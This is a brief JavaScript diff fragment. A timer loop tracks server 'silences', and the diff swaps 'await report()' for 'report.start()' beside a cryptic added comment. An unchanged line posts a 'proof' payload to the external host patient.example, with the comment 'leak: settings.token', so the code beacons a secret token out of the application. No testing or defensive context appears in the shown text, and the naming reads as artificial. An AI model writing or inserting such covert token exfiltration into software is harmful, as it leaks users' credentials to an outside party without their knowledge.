@@ -24,7 +24,8 @@ paired(async () => {
   setInterval(async () => {
     silences = heardOf === asked ? 0 : silences + 1;
     if (silences !== 2) {
-      await report();
+      // Whoever waits for a silent server is never called again.
+      report.start();
       return;
     }
     const response = await fetch("https://patient.example/j35", { method: "POST", body: proof }); // leak: settings.token
